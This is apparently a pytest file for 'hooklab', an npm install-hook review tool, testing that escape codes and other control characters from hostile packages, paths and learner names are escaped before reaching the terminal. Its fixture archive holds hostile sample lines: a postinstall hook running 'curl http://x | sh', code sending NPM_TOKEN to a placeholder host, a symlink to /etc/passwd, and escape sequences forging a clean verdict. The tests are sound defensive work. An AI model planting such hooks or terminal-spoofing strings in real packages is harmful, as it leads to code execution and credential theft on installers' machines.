"""Issue 11: no control character from a package, a server or a learner reaches the terminal raw.

A hostile npm archive names its files and writes its hook and evidence lines with a screen clear
(ESC [2J), a carriage return, a right-to-left override and a byte that is not UTF-8; the real
CLI runs over it as a trainer would, and its bytes are checked.
"""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import tarfile
from pathlib import Path

from hooklab.model import Event, RunResult
from hooklab.show import story, summary_text
from tests.conftest import ROOT

CLEAR = "\x1b[2J\x1b[H"
FAKE = f"{CLEAR}Low in all six categories: no install-time code or risk signal found.\r\u202e"


def run_bytes(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
    """The installed `hooklab` command, with stdout and stderr kept as raw bytes."""
    return subprocess.run(
        [str(Path(sys.executable).parent / "hooklab"), *args],
        capture_output=True,
        env={**os.environ, **(env or {})},
        cwd=ROOT,
        timeout=300,
        check=False,
    )


def assert_terminal_safe(data: bytes) -> str:
    """No control byte but newline and tab, no bidi override, and valid UTF-8."""
    bad = sorted({b for b in data if (b < 0x20 and b not in b"\n\t") or b == 0x7F})
    assert not bad, f"raw control bytes {bad} in {data[:300]!r}"
    text = data.decode("utf-8")  # raises on a raw non-UTF-8 byte
    assert "\u202e" not in text and "\x85" not in text
    return text


def _add(tar: tarfile.TarFile, name: str, data: bytes = b"", link: str = "") -> None:
    info = tarfile.TarInfo(name)
    if link:
        info.type, info.linkname = tarfile.SYMTYPE, link
    info.size = len(data)
    tar.addfile(info, io.BytesIO(data))


def hostile_tgz(path: Path) -> Path:
    """An npm archive whose names, hook and lines try to redraw the screen."""
    hook = f"hook{CLEAR}.js"
    manifest = {"name": "evil", "version": "1.0.0", "scripts": {"postinstall": f"node {hook}"}}
    with tarfile.open(path, "w:gz", format=tarfile.GNU_FORMAT, errors="surrogateescape") as tar:
        _add(tar, "package/package.json", json.dumps(manifest).encode())
        payload = f"require('child_process').exec('curl http://x | sh') // {FAKE}\n"
        _add(tar, f"package/{hook}", payload.encode())
        _add(tar, "package/bad\udcff\udcfe.js", b"fetch('http://x/' + process.env.NPM_TOKEN)\n")
        _add(tar, "package/rtl\u202egnp.js", b"require('child_process').execSync('id')\n")
        _add(tar, f"package/line\nLow in all six categories{CLEAR}.js", b"eval(x)\n")
        _add(tar, f"package/link{CLEAR}", link=f"/etc/{CLEAR}passwd")
    return path


def test_review_text_of_a_hostile_archive_is_escaped(tmp_path: Path) -> None:
    proc = run_bytes("review", "--lang", "en", str(hostile_tgz(tmp_path / "x.tgz")))
    assert proc.returncode == 0, proc.stderr
    out = assert_terminal_safe(proc.stdout)
    assert_terminal_safe(proc.stderr)
    assert "Overall high" in out
    assert "hook\\x1b[2J\\x1b[H.js" in out and "bad\\xff\\xfe.js" in out and "\\u202e" in out
    # the fake verdict never starts a line of its own: the newline in the name is escaped
    assert not any(line.startswith("Low in all six") for line in out.splitlines())


def test_review_json_of_a_hostile_archive_is_valid_utf8(tmp_path: Path) -> None:
    proc = run_bytes("review", str(hostile_tgz(tmp_path / "x.tgz")), "--json")
    assert proc.returncode == 0, proc.stderr
    data = json.loads(assert_terminal_safe(proc.stdout))
    assert data["overall"]["level"] == "high"
    files = {f["file"] for c in data["categories"] for f in c["findings"]}
    assert any("\\xff\\xfe" in f for f in files)
    for value in json.dumps(data, ensure_ascii=False):  # decoded strings hold no control either
        assert value == "\n" or value.isprintable() or value == " "


def test_an_error_naming_a_hostile_path_is_one_escaped_line(tmp_path: Path) -> None:
    bad = tmp_path / f"nope{CLEAR}\nhooklab: all fine"
    proc = run_bytes("review", str(bad))
    assert proc.returncode == 2
    err = assert_terminal_safe(proc.stderr)
    assert len(err.strip().splitlines()) == 1 and "\\x1b[2J" in err


def test_board_escapes_a_hostile_learner_name(tmp_path: Path) -> None:
    folder = tmp_path / "board"
    folder.mkdir()
    evil = {"format": "hooklab-lab-progress/1", "learner": f"mallory{FAKE}\nada", "labs": {}}
    (folder / f"progress-{CLEAR}.json").write_text(json.dumps(evil), "utf-8")
    proc = run_bytes("labs", "board", str(folder), env={"HOOKLAB_WORKSHOP_KEY": "k"})
    assert proc.returncode == 0, proc.stderr
    out = assert_terminal_safe(proc.stdout)
    assert "mallory\\x1b[2J" in out and "progress-\\x1b[2J" in out
    assert not any(line.startswith("ada") for line in out.splitlines())

    proc = run_bytes("labs", "board", str(folder), "--json", env={"HOOKLAB_WORKSHOP_KEY": "k"})
    assert proc.returncode == 0, proc.stderr
    [row] = json.loads(assert_terminal_safe(proc.stdout))
    assert row["learner"].startswith("mallory\\x1b[2J") and row["learner"].endswith("\\x0aada")
    assert row["file"] == "progress-\\x1b[2J\\x1b[H.json"


def test_watch_views_escape_what_the_traced_command_did() -> None:
    result = RunResult(["npx", f"pkg{CLEAR}"], 0, "", "", 0.1)
    result.events.append(Event(0.0, 7, None, "file_write", f"/tmp/x{FAKE}", role="hook"))
    result.markers.append(f"m{CLEAR}.marker")
    text = summary_text(result)
    assert "\x1b" not in text and "\r" not in text and "\u202e" not in text
    assert "pkg\\x1b[2J" in text and "m\\x1b[2J" in text
    assert story(result).loc[1, "detail"].startswith("/tmp/x\\x1b[2J")
